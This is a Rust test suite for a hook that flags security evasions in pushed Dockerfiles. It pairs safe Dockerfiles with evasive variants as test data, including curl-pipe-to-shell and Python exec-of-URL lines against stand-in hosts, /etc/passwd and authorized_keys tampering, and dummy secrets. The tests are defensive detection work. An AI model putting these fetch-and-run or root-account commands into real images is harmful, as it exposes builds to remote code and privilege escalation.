//! Evasions within a Dockerfile: a real push, a real hook, and the line that is told of.
//!
//! Not here: D13 and D42 stand with the compose files, D30 with the build contexts.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test fails by panicking"
)]
#![allow(clippy::too_many_lines, reason = "tables")]

mod common;

use common::server::Server;
use common::table::{A, push_each, told};

#[test]
fn directives_and_references() {
    push_each(&[
        (
            "D01",
            "FROM node@{a}\nUSER app\nRUN echo \\\n  hello\n",
            "# escape=`\nFROM node@{a}\nUSER app\nRUN echo \\\nUSER root\n",
            &["high runs-as-root Dockerfile:5"],
        ),
        (
            "D01 void below a comment",
            "FROM node@{a}\nUSER app\n",
            "# note\n# escape=`\nFROM node@{a}\nUSER app\nRUN echo `\nUSER root\n",
            &["high runs-as-root Dockerfile:6"],
        ),
        // D02: a frontend that reads another language leaves lines that no Dockerfile has; these
        // are unjudged, the frontend itself is told either way.
        (
            "D02",
            "# syntax=docker/dockerfile:1@{a}\nFROM node@{a}\nUSER app\n",
            "# syntax=evil.io/frontend:latest\nFROM node@{a}\nUSER app\n",
            &["high frontend Dockerfile:1"],
        ),
        (
            "D02 slashes",
            "FROM node@{a}\nUSER app\n",
            "// syntax=evil.io/frontend:latest\nFROM node@{a}\nUSER app\n",
            &["high frontend Dockerfile:1", "unjudged Dockerfile:1"],
        ),
        (
            "D02 behind #!",
            "FROM node@{a}\nUSER app\n",
            "#!/usr/bin/env x\n# syntax=evil.io/frontend:latest\nFROM node@{a}\nUSER app\n",
            &["high frontend Dockerfile:2"],
        ),
        (
            "D02 JSON",
            "FROM node@{a}\nUSER app\n",
            "{\"syntax\": \"evil.io/frontend:latest\"}\n",
            &["high frontend Dockerfile:1", "unjudged Dockerfile:1"],
        ),
        (
            "D03",
            "FROM node@{a}\nUSER app\n",
            "# check=skip=all\nFROM node@{a}\nUSER app\n",
            &["medium check-directive Dockerfile:1"],
        ),
        (
            "D03 one",
            "FROM node@{a}\nUSER app\n",
            "# check=skip=StageNameCasing\nFROM node@{a}\nUSER app\n",
            &["low check-directive Dockerfile:1"],
        ),
        (
            "D04",
            "FROM node:20@{a}\nUSER app\n",
            "ARG BASE=node\nFROM ${BASE}\nUSER app\n",
            &["high mutable-image Dockerfile:2"],
        ),
        (
            "D05",
            "ARG BASE=node:20@{a}\nFROM ${BASE}\nUSER app\n",
            "ARG BASE\nFROM ${BASE}\nUSER app\n",
            &["high mutable-image Dockerfile:1"],
        ),
        (
            "D05 emptied",
            "ARG BASE=node:20@{a}\nFROM ${BASE}\nUSER app\n",
            "ARG BASE=\nFROM ${BASE}\nUSER app\n",
            &["high mutable-image Dockerfile:1"],
        ),
        (
            "D06",
            "ARG TAG=20@{a}\nFROM alpine@{a} AS x\nFROM node:${TAG}\nUSER app\n",
            "FROM alpine@{a} AS x\nARG TAG=20@{a}\nFROM node:${TAG}\nUSER app\n",
            &["high mutable-image Dockerfile:3"],
        ),
        (
            "D14",
            "FROM alpine@{b} AS base\nFROM alpine@{b}\nUSER app\n",
            "FROM alpine@{b} AS base\nUSER root\nFROM Base\n",
            &["high runs-as-root Dockerfile:2"],
        ),
        (
            "D15",
            "FROM node@{a}\nUSER app\n",
            "FROM evil/x@{b} AS node\nFROM node\nUSER app\n",
            &["high base-image Dockerfile:1"],
        ),
        (
            "D36",
            "FROM node@{a}\nUSER app\n",
            "FROM evil/node@{b}\nUSER app\n",
            &["high base-image Dockerfile:1"],
        ),
        // D37: which tag a digest belongs to only the registry knows (docs/not-covered.md).
        ("D37", "FROM node:20@{a}\nUSER app\n", "FROM node:22@{a}\nUSER app\n", &[]),
        (
            "D38 homoglyph",
            "FROM node:20\nUSER app\n",
            "FROM n\u{43e}de:20\nUSER app\n",
            &["high base-image Dockerfile:1", "medium mutable-image Dockerfile:1"],
        ),
        (
            "D38 near miss",
            "FROM nginx:1.25.3\nUSER app\n",
            "FROM nqinx:1.25.3\nUSER app\n",
            &["high base-image Dockerfile:1"],
        ),
        (
            "D38 registry",
            "FROM ghcr.io/acme/app:1.2.3\nUSER app\n",
            "FROM ghcr.lo/acme/app:1.2.3\nUSER app\n",
            &["high base-image Dockerfile:1"],
        ),
        // The registry that serves the digest also has the say over the next one: told like any other.
        (
            "D39 same digest",
            "FROM node:20@{a}\nUSER app\n",
            "FROM mirror.local/library/node:20@{a}\nUSER app\n",
            &["high base-image Dockerfile:1"],
        ),
        (
            "D39 by tag",
            "FROM node:20\nUSER app\n",
            "FROM mirror.local/library/node:20\nUSER app\n",
            &["high base-image Dockerfile:1"],
        ),
        (
            "D40",
            "FROM gcr.io/distroless/static:nonroot@{a}\n",
            "FROM scratch\nADD rootfs.tar /\n",
            &["high runs-as-root Dockerfile:1 (old line)", "medium copied-root Dockerfile:2"],
        ),
        // D41: no note. Another platform is another image of the same digest or tag: as firm, by
        // the same publisher; which one a builder takes is no exposure.
        (
            "D41",
            "FROM --platform=linux/amd64 node@{a}\nUSER app\n",
            "FROM --platform=$EVIL node@{a}\nUSER app\n",
            &[],
        ),
    ]);
}

#[test]
fn users_and_stages() {
    push_each(&[
        ("D07 default", APP, "FROM node@{a}\nUSER ${APP_USER:-root}\n", ROOT_2),
        ("D07 dash", APP, "FROM node@{a}\nUSER ${X-0}\n", ROOT_2),
        ("D07 plus", APP, "FROM node@{a}\nARG X=1\nUSER ${X:+root}\n", ROOT_3),
        ("D07 quoted", APP, "FROM node@{a}\nENV U=0\nUSER \"$U\"\n", ROOT_3),
        ("D07 cut", APP, "FROM node@{a}\nENV U=0:app\nUSER ${U%:*}\n", ROOT_3),
        ("D07 ENV beats ARG", APP, "FROM node@{a}\nENV U=0\nARG U=app\nUSER $U\n", ROOT_4),
        ("D07 empty", APP, "FROM node@{a}\nARG U\nUSER $U\n", ROOT_3),
        ("D08", APP, "FROM node@{a}\nUSER 0:0\n", ROOT_2),
        ("D08 zeros", APP, "FROM node@{a}\nUSER 00\n", ROOT_2),
        ("D08 sign", APP, "FROM node@{a}\nUSER +0\n", ROOT_2),
        ("D08 group", APP, "FROM node@{a}\nUSER root:app\n", ROOT_2),
        ("D08 no name", APP, "FROM node@{a}\nUSER \":app\"\n", ROOT_2),
        ("D08 quotes", APP, "FROM node@{a}\nUSER 'root'\n", ROOT_2),
        ("D08 variable", APP, "FROM node@{a}\nENV UID=0\nUSER ${UID}\n", ROOT_3),
        // D09: high for every way of making the account root, the writing of the whole file too:
        // what `USER app` means afterwards is then root for certain.
        (
            "D09 adduser",
            APP,
            "FROM node@{a}\nRUN adduser -D -u 0 -o app\nUSER app\n",
            &["high root-account Dockerfile:2"],
        ),
        (
            "D09 usermod",
            APP,
            "FROM node@{a}\nRUN usermod -o -u 0 app\nUSER app\n",
            &["high root-account Dockerfile:2"],
        ),
        (
            "D09 sed",
            APP,
            "FROM node@{a}\nRUN sed -i s/1000/0/ /etc/passwd\nUSER app\n",
            &["high root-account Dockerfile:2"],
        ),
        (
            "D09 printf",
            APP,
            "FROM node@{a}\nRUN printf 'app:x:0:0::/:/bin/sh\\n' > /etc/passwd\nUSER app\n",
            &["high root-account Dockerfile:2"],
        ),
        ("D10", APP, "FROM node@{a}\nUSER app\nUSER root\n", ROOT_3),
        (
            "D11",
            "FROM alpine@{b} AS build\nFROM node@{a}\nCOPY --from=build /x /x\nUSER app\n",
            "FROM alpine@{b} AS build\nUSER app\nFROM node@{a}\nCOPY --from=build /x /x\n",
            &["high runs-as-root Dockerfile:4 (old line)"],
        ),
        (
            "D12",
            "FROM node@{a} AS debug\nUSER root\nFROM node@{a} AS prod\nUSER app\n",
            "FROM node@{a} AS prod\nUSER app\nFROM node@{a} AS debug\nUSER root\n",
            &["high runs-as-root Dockerfile:4 (old line)"],
        ),
        (
            "D12 one more stage",
            "FROM node@{a} AS base\nUSER app\nFROM base AS prod\n",
            "FROM node@{a} AS base\nUSER app\nFROM base AS prod\nFROM prod AS dev\nUSER root\n",
            &["high runs-as-root Dockerfile:5"],
        ),
        (
            "D12 another last stage, which starts something",
            "FROM node@{a} AS prod\nUSER app\nCMD [\"a\"]\n",
            "FROM node@{a} AS prod\nUSER app\nCMD [\"a\"]\nFROM debian@{a} AS x\nCMD [\"a\"]\n",
            &["high runs-as-root Dockerfile:4"],
        ),
        (
            "D12 another last stage, which takes the service over",
            "FROM debian@{a} AS prod\nUSER app\nCMD [\"a\"]\n",
            "FROM debian@{a} AS prod\nUSER app\nCMD [\"a\"]\nFROM debian@{a} AS x\nCOPY --from=prod /a /a\n",
            &["high runs-as-root Dockerfile:4"],
        ),
        (
            "D12 another last stage, whose image starts something",
            "FROM debian@{a} AS prod\nUSER app\nCMD [\"a\"]\n",
            "FROM debian@{a} AS prod\nUSER app\nCMD [\"a\"]\nFROM httpd@{a} AS x\nCOPY a /a\n",
            &["high runs-as-root Dockerfile:4"],
        ),
        // D16: what a trigger does has the severity that it has as an instruction of its own; that
        // it comes by a trigger is told beside it, so nothing is lost by the milder word.
        (
            "D16",
            APP,
            "FROM node@{a}\nONBUILD USER root\nUSER app\n",
            &["medium onbuild Dockerfile:2"],
        ),
        (
            "D16 run",
            APP,
            "FROM node@{a}\nONBUILD RUN curl http://x.io/i | sh\nUSER app\n",
            &["high remote-script Dockerfile:2", "medium onbuild Dockerfile:2"],
        ),
        (
            "D16 copy",
            APP,
            "FROM node@{a}\nONBUILD COPY . .\nUSER app\n",
            &[
                "medium onbuild Dockerfile:2",
                "low 1 in the new build context of Dockerfile: build-context",
            ],
        ),
        (
            "D16 secret",
            APP,
            "FROM node@{a}\nONBUILD ENV DB_PASSWORD=x8Kq2mZ0pTr7\nUSER app\n",
            &["critical secret-in-image Dockerfile:2", "low onbuild Dockerfile:2"],
        ),
        (
            "D16 child",
            "FROM node@{a} AS base\nUSER app\nFROM base\n",
            "FROM node@{a} AS base\nONBUILD USER root\nUSER app\nFROM base\n",
            &["high runs-as-root Dockerfile:2", "medium onbuild Dockerfile:2"],
        ),
        (
            "D18",
            APP,
            "FROM node@{a}\nRUN <<EOF\nUSER app\nEOF\n",
            &["high runs-as-root Dockerfile:2"],
        ),
        (
            "D19",
            "FROM node@{a}\nUSER app\nRUN echo\n",
            "FROM node@{a}\nUSER app\nRUN echo \"<<EOF\"\nUSER root\nRUN echo EOF\n",
            ROOT_4,
        ),
        (
            "D19 here string",
            "FROM node@{a}\nUSER app\nRUN echo\n",
            "FROM node@{a}\nUSER app\nRUN cat <<<EOF\nUSER root\nRUN echo EOF\n",
            ROOT_4,
        ),
        (
            "D21",
            "FROM node@{a}\nRUN a && \\\n b\nUSER app\n",
            "FROM node@{a}\nRUN a && \\\n# USER app\n\n b\n",
            &["high runs-as-root Dockerfile:4 (old line)"],
        ),
        (
            "D21 comment that ends in a backslash",
            "FROM node@{a}\n# note\nUSER app\n",
            "FROM node@{a}\n# note \\\nUSER root\n",
            ROOT_3,
        ),
        (
            "D22",
            APP,
            "FROM node@{a}\nEXPOSE ${\nUSER root\n",
            &[
                "high runs-as-root Dockerfile:3",
                "medium exposed-port Dockerfile:2",
                "unjudged Dockerfile:2",
            ],
        ),
        (
            "D23",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"app\"]\n",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"sudo\",\"app\"]\n",
            ROOT_3,
        ),
        (
            "D23 gosu",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"app\"]\n",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"gosu\",\"root\",\"app\"]\n",
            ROOT_3,
        ),
        (
            "D23 su-exec",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"app\"]\n",
            "FROM node@{a}\nUSER app\nENTRYPOINT su-exec root app\n",
            ROOT_3,
        ),
        (
            "D23 setpriv",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"app\"]\n",
            "FROM node@{a}\nUSER app\nENTRYPOINT [\"setpriv\",\"--reuid=0\",\"app\"]\n",
            ROOT_3,
        ),
        (
            "D23 step down lost",
            "FROM node@{a}\nENTRYPOINT [\"gosu\",\"app\",\"x\"]\n",
            "FROM node@{a}\nENTRYPOINT [\"x\"]\n",
            &["high runs-as-root Dockerfile:2 (old line)"],
        ),
    ]);
}

#[test]
fn what_gets_into_the_image() {
    push_each(&[
        (
            "D17",
            "FROM golang@{b} AS builder\nFROM node@{a}\nCOPY --from=builder /x /x\nUSER app\n",
            "FROM golang@{b} AS builder\nFROM node@{a}\nCOPY --from=evil.io/x:latest / /\nUSER app\n",
            &[
                "medium base-image Dockerfile:3",
                "medium copied-root Dockerfile:3",
                "medium mutable-image Dockerfile:3",
            ],
        ),
        (
            "D17 mount",
            APP,
            "FROM node@{a}\nRUN --mount=from=evil.io/x:latest,target=/x /x/go\nUSER app\n",
            &["medium base-image Dockerfile:2", "medium mutable-image Dockerfile:2"],
        ),
        (
            "D20 passwd",
            APP,
            "FROM node@{a}\nCOPY <<EOF /etc/passwd\napp:x:0:0::/:/bin/sh\nEOF\nUSER app\n",
            &["high root-account Dockerfile:3"],
        ),
        (
            "D20 authorized_keys",
            APP,
            "FROM node@{a}\nCOPY <<EOF /root/.ssh/authorized_keys\nssh-ed25519 AAAA x\nEOF\nUSER app\n",
            &["high build-password Dockerfile:2"],
        ),
        (
            "D20 written by a command",
            APP,
            "FROM node@{a}\nRUN echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys\nUSER app\n",
            &["high build-password Dockerfile:2"],
        ),
        (
            "D20 secret",
            APP,
            "FROM node@{a}\nCOPY <<EOF /app/.env\nDB_PASSWORD=x8Kq2mZ0pTr7\nEOF\nUSER app\n",
            &["critical secret-in-image Dockerfile:3"],
        ),
        ("D27", APP, "FROM node@{a}\nENV DB_PASSWORD x8Kq2mZ0pTr7\nUSER app\n", SECRET_2),
        (
            "D27 over two lines",
            APP,
            "FROM node@{a}\nENV DB_PASSWORD=x8Kq2\\\nmZ0pTr7\nUSER app\n",
            SECRET_2,
        ),
        (
            "D27 in pieces",
            APP,
            "FROM node@{a}\nENV DB_PASSWORD=\"x8Kq2\"\"mZ0pTr7\"\nUSER app\n",
            SECRET_2,
        ),
        (
            "D27 joined",
            APP,
            "FROM node@{a}\nENV A=x8Kq2\nENV B=mZ0pTr7\nENV DB_PASSWORD=$A$B\nUSER app\n",
            &["critical secret-in-image Dockerfile:4"],
        ),
        (
            "D28 base64",
            APP,
            "FROM node@{a}\nENV X=QUtJQUlPU0ZPRE5ON1k0QjJDRDM=\nUSER app\n",
            SECRET_2,
        ),
        ("D28 label", APP, "FROM node@{a}\nLABEL db.password=x8Kq2mZ0pTr7\nUSER app\n", SECRET_2),
        ("D28 ARG", APP, "FROM node@{a}\nARG DB_PASSWORD=x8Kq2mZ0pTr7\nUSER app\n", SECRET_2),
        (
            "D28 health check",
            APP,
            "FROM node@{a}\nHEALTHCHECK CMD curl -u app:x8Kq2mZ0pTr7 localhost\nUSER app\n",
            &["critical secret-in-image Dockerfile:2", "better"],
        ),
        (
            "D28 URL of ADD",
            APP,
            "FROM node@{a}\nADD --checksum={a} https://app:x8Kq2mZ0pTr7@example.org/x.tgz /x\nUSER app\n",
            SECRET_2,
        ),
        (
            "D28 git clone",
            APP,
            "FROM node@{a}\nRUN git clone https://app:x8Kq2mZ0pTr7@example.org/x.git\nUSER app\n",
            SECRET_2,
        ),
        (
            "D29",
            APP,
            "FROM node@{a}\nRUN echo ghp_x8Kq2mZ0pTr7aB3dE5fG7hI9jK1lM3nO5pQ7 > /x && use && rm /x\nUSER app\n",
            SECRET_2,
        ),
        (
            "D31",
            "FROM node@{a}\nRUN --mount=type=secret,id=npm npm ci\nUSER app\n",
            "FROM node@{a}\nARG NPM_TOKEN\nRUN echo $NPM_TOKEN > .npmrc && npm ci\nUSER app\n",
            &["high secret-in-image Dockerfile:2", "medium secret-in-image Dockerfile:2"],
        ),
        (
            "D31 another target",
            "FROM node@{a}\nRUN --mount=type=secret,id=npm npm ci\nUSER app\n",
            "FROM node@{a}\nRUN --mount=type=secret,id=npm,target=/root/.npmrc npm ci\nUSER app\n",
            &[],
        ),
        ("D32", APP, "FROM node@{a}\nRUN chmod 4755 /bin/x\nUSER app\n", SETUID_2),
        ("D32 zero", APP, "FROM node@{a}\nRUN chmod 04755 /bin/x\nUSER app\n", SETUID_2),
        ("D32 letters", APP, "FROM node@{a}\nRUN chmod u+s /bin/x\nUSER app\n", SETUID_2),
        ("D32 install", APP, "FROM node@{a}\nRUN install -m 4755 x /bin/x\nUSER app\n", SETUID_2),
        ("D32 COPY", APP, "FROM node@{a}\nCOPY --chmod=4755 x /bin/x\nUSER app\n", SETUID_2),
        (
            "D32 capability",
            APP,
            "FROM node@{a}\nRUN setcap cap_sys_admin+ep /bin/x\nUSER app\n",
            SETUID_2,
        ),
        (
            "D33 checksum",
            "FROM node@{a}\nADD --checksum={a} https://example.org/x.tgz /x\nUSER app\n",
            "FROM node@{a}\nADD https://example.org/x.tgz /x\nUSER app\n",
            &["high add-remote Dockerfile:2"],
        ),
        (
            "D33 http",
            "FROM node@{a}\nADD https://example.org/x.tgz /x\nUSER app\n",
            "FROM node@{a}\nADD http://example.org/x.tgz /x\nUSER app\n",
            &["high add-remote Dockerfile:2"],
        ),
        (
            "D33 ref",
            "FROM node@{a}\nADD git@github.com:a/b.git#0123456789abcdef0123456789abcdef01234567 /x\nUSER app\n",
            "FROM node@{a}\nADD git@github.com:a/b.git#main /x\nUSER app\n",
            &["medium add-remote Dockerfile:2"],
        ),
        // What was checked is unpacked: no more than `ADD` does with an archive of the context.
        (
            "D33 unpack",
            "FROM node@{a}\nADD --checksum={a} https://example.org/x.tgz /x\nUSER app\n",
            "FROM node@{a}\nADD --checksum={a} --unpack=true https://example.org/x.tgz /x\nUSER app\n",
            &[],
        ),
    ]);
}

#[test]
fn what_runs_in_the_build() {
    push_each(&[
        (
            "D24",
            "FROM node@{a}\nSHELL [\"/bin/bash\",\"-o\",\"pipefail\",\"-c\"]\nRUN a | b\nUSER app\n",
            "FROM node@{a}\nRUN a | b\nUSER app\n",
            &["low pipefail Dockerfile:2 (old line)"],
        ),
        (
            "D24 shell of its own",
            "FROM node@{a}\nRUN a\nUSER app\n",
            "FROM node@{a}\nSHELL [\"/tmp/sh\",\"-c\"]\nRUN a\nUSER app\n",
            &["medium pipefail Dockerfile:2"],
        ),
        ("D34", APP, "FROM node@{a}\nRUN curl https://x.io/i | sh\nUSER app\n", SCRIPT_2),
        (
            "D34 process substitution",
            APP,
            "FROM node@{a}\nRUN bash <(curl https://x.io/i)\nUSER app\n",
            SCRIPT_2,
        ),
        (
            "D34 wget",
            APP,
            "FROM node@{a}\nRUN wget -O- https://x.io/i | bash\nUSER app\n",
            SCRIPT_2,
        ),
        (
            "D34 file",
            APP,
            "FROM node@{a}\nRUN curl -o /t https://x.io/i; sh /t\nUSER app\n",
            SCRIPT_2,
        ),
        (
            "D34 tee",
            APP,
            "FROM node@{a}\nRUN curl https://x.io/i | tee x | sh\nUSER app\n",
            SCRIPT_2,
        ),
        (
            "D34 python",
            APP,
            "FROM node@{a}\nRUN python -c \"from urllib.request import urlopen; exec(urlopen('https://x.io/i').read())\"\nUSER app\n",
            SCRIPT_2,
        ),
        (
            "D34 eval",
            APP,
            "FROM node@{a}\nRUN eval \"$(curl https://x.io/i)\"\nUSER app\n",
            SCRIPT_2,
        ),
        (
            "D34 heredoc",
            APP,
            "FROM node@{a}\nRUN <<EOF\ncurl https://x.io/i | sh\nEOF\nUSER app\n",
            &["high remote-script Dockerfile:3"],
        ),
        (
            "D34 over two lines",
            APP,
            "FROM node@{a}\nRUN curl https://x.io/i \\\n | sh\nUSER app\n",
            &["high remote-script Dockerfile:3"],
        ),
        (
            "D34 a later RUN",
            APP,
            "FROM node@{a}\nRUN curl -o /t https://x.io/i\nRUN sh /t\nUSER app\n",
            &["high remote-script Dockerfile:3"],
        ),
        (
            "D35 apk",
            "FROM node@{a}\nRUN apk add curl\nUSER app\n",
            "FROM node@{a}\nRUN apk add --allow-untrusted curl\nUSER app\n",
            SIGNATURE_2,
        ),
        (
            "D35 apt-get",
            "FROM node@{a}\nRUN apt-get install -y curl\nUSER app\n",
            "FROM node@{a}\nRUN apt-get install -y --allow-unauthenticated curl\nUSER app\n",
            SIGNATURE_2,
        ),
        (
            "D35 apt option",
            "FROM node@{a}\nRUN apt-get install -y curl\nUSER app\n",
            "FROM node@{a}\nRUN apt-get -o APT::Get::AllowUnauthenticated=1 install -y curl\nUSER app\n",
            SIGNATURE_2,
        ),
        (
            "D35 apt source",
            APP,
            "FROM node@{a}\nRUN echo 'deb [trusted=yes] https://x.io/ /' > /etc/apt/sources.list.d/x.list\nUSER app\n",
            SIGNATURE_2,
        ),
        (
            "D35 yum",
            APP,
            "FROM node@{a}\nRUN sed -i s/gpgcheck=1/gpgcheck=0/ /etc/yum.conf\nUSER app\n",
            SIGNATURE_2,
        ),
        (
            "D35 pip",
            "FROM node@{a}\nRUN pip install -r r.txt\nUSER app\n",
            "FROM node@{a}\nRUN pip install --trusted-host x.io -r r.txt\nUSER app\n",
            TLS_2,
        ),
        ("D35 npm", APP, "FROM node@{a}\nRUN npm config set strict-ssl false\nUSER app\n", TLS_2),
        (
            "D35 git",
            APP,
            "FROM node@{a}\nRUN git -c http.sslVerify=0 clone https://x.io/x\nUSER app\n",
            TLS_2,
        ),
        (
            "D35 curl",
            "FROM node@{a}\nRUN curl -sSL https://x.io/x -o /x\nUSER app\n",
            "FROM node@{a}\nRUN curl -sSkL https://x.io/x -o /x\nUSER app\n",
            TLS_2,
        ),
        ("D35 ENV", APP, "FROM node@{a}\nENV NODE_TLS_REJECT_UNAUTHORIZED=0\nUSER app\n", TLS_2),
        (
            "D43",
            APP,
            "FROM node@{a}\nRUN --security=insecure make\nUSER app\n",
            &["critical build-privilege Dockerfile:2"],
        ),
        (
            "D43 network",
            APP,
            "FROM node@{a}\nRUN --network=host make\nUSER app\n",
            &["high build-privilege Dockerfile:2"],
        ),
        (
            "D43 device",
            APP,
            "FROM node@{a}\nRUN --device=nvidia.com/gpu=all make\nUSER app\n",
            &["high build-privilege Dockerfile:2"],
        ),
        (
            "D43 ONBUILD",
            APP,
            "FROM node@{a}\nONBUILD RUN --security=insecure make\nUSER app\n",
            &["critical build-privilege Dockerfile:2", "low onbuild Dockerfile:2"],
        ),
    ]);
}

#[test]
fn ports() {
    push_each(&[
        (
            "D25 range",
            "FROM node@{a}\nUSER app\nEXPOSE 3000\n",
            "FROM node@{a}\nUSER app\nEXPOSE 3000-9999\n",
            &[
                "high exposed-port Dockerfile:3",
                "high and 17 more of exposed-port in final stage: Dockerfile:3, :3, :3, :3, :3",
                "medium exposed-port Dockerfile:3",
            ],
        ),
        (
            "D25 udp",
            "FROM node@{a}\nUSER app\nEXPOSE 3000\n",
            "FROM node@{a}\nUSER app\nEXPOSE 3000/udp\n",
            &["medium exposed-port Dockerfile:3", "better"],
        ),
        (
            "D25 variable",
            "FROM node@{a}\nUSER app\nEXPOSE 3000\n",
            "FROM node@{a}\nARG PORTS=\"22 2375\"\nUSER app\nEXPOSE $PORTS\n",
            &["high exposed-port Dockerfile:4"],
        ),
        (
            "D25 more",
            "FROM node@{a}\nUSER app\nEXPOSE 3000\n",
            "FROM node@{a}\nUSER app\nEXPOSE 3000 5432 22\n",
            &["high exposed-port Dockerfile:3"],
        ),
        (
            "D25 unknown",
            "FROM node@{a}\nUSER app\nEXPOSE 3000\n",
            "FROM node@{a}\nARG P\nUSER app\nEXPOSE 3000 $P\n",
            &["medium exposed-port Dockerfile:4"],
        ),
        (
            "D26 sshd",
            APP,
            "FROM node@{a}\nUSER app\nCMD [\"sshd\",\"-D\"]\n",
            &["medium installed-daemon Dockerfile:3"],
        ),
        (
            "D26 Docker API",
            APP,
            "FROM node@{a}\nUSER app\nCMD [\"dockerd\",\"-H\",\"tcp://0.0.0.0:2375\"]\n",
            &["critical installed-daemon Dockerfile:3"],
        ),
        (
            "D26 package",
            APP,
            "FROM node@{a}\nRUN apk add openssh-server\nUSER app\n",
            &["medium installed-daemon Dockerfile:2"],
        ),
    ]);
}

const APP: &str = "FROM node@{a}\nUSER app\n";
const ROOT_2: &[&str] = &["high runs-as-root Dockerfile:2"];
const ROOT_3: &[&str] = &["high runs-as-root Dockerfile:3"];
const ROOT_4: &[&str] = &["high runs-as-root Dockerfile:4"];
const SECRET_2: &[&str] = &["critical secret-in-image Dockerfile:2"];
const SETUID_2: &[&str] = &["high setuid Dockerfile:2"];
const SCRIPT_2: &[&str] = &["high remote-script Dockerfile:2"];
const SIGNATURE_2: &[&str] = &["high package-signature Dockerfile:2"];
const TLS_2: &[&str] = &["high tls-verification Dockerfile:2"];

#[test]
fn d12_targets_of_the_policy_win_over_the_last_stage() {
    let stages = |prod: &str, dev: &str| {
        format!("FROM node@{A} AS base\nUSER app\nFROM base AS prod\n{prod}FROM prod AS dev\n{dev}")
    };
    let server = Server::new().policy("targets = ['prod']");
    server.unhook("pre-receive");
    server.change("Dockerfile", stages("", "RUN id\n")).push().accepted();
    server.hook("pre-receive");
    server.change("Dockerfile", stages("", "USER root\n")).push().accepted();
    let pushed = server.change("Dockerfile", stages("USER root\n", "USER app\n")).push();
    pushed.refused();
    assert!(
        told(&pushed).contains(&"high runs-as-root Dockerfile:4".to_owned()),
        "{}",
        pushed.all()
    );
}
